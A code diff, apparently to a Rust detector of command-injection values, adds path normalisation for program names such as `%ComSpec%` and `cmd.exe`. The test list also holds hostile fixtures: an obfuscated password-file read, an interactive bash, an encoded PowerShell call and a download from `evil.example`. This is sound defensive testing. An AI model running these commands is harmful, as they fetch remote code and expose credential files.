@@ -1446,6 +1446,17 @@ const WRAPPERS: &[&[u8]] = &[
     b"command", b"builtin", b"doas", b"strace", b"watch",
 ];
 
+/// The program a command word names: Windows' `%ComSpec%` is `cmd`; a path names its last
+/// segment (`%SystemRoot%\system32\cmd.exe`, `/usr/bin/python3`). Lower case.
+fn program(word: &[u8]) -> &[u8] {
+    if word == b"%comspec%" {
+        return b"cmd";
+    }
+    word.rsplit(|c| matches!(c, b'/' | b'\\'))
+        .next()
+        .unwrap_or(word)
+}
+
 /// A value that is an interpreter told to run a string (`sh -c id`, `powershell -enc …`), or a
 /// wrapper followed by a command with no ordinary-language meaning (`time whoami`), or a
 /// PowerShell cmdlet with an argument: command lines without any separator.
@@ -1454,9 +1465,10 @@ fn interpreter(b: &[u8]) -> Option<Hit> {
         .split(|c| c.is_ascii_whitespace())
         .filter(|w| !w.is_empty())
         .map(|w| w.strip_prefix(b"'").unwrap_or(w));
-    let first = words.next()?;
+    let first = program(words.next()?);
     let second = words.next()?;
     let (cmd, arg) = if WRAPPERS.contains(&first) {
+        let second = program(second);
         let third = words.next();
         if command_class(second) == Some(true) && third.is_none_or(|t| !t.is_empty()) {
             // `time sh -c x` runs `sh`; `time whoami` runs `whoami`.
@@ -2577,6 +2589,9 @@ mod tests {
             "cat /[e]tc/pa??wd",
             "/usr/[a-z]in/bash -i",
             "time sh -c whoami",
+            "%COMSPEC% /c dir",
+            "%SystemRoot%\\system32\\cmd.exe /c dir",
+            "/usr/local/bin/python3 -c 'import os'",
             "powershell -enc SQBFAFgA",
             "Invoke-WebRequest http://evil.example/x.ps1",
             "x<(cat /tmp/f)",
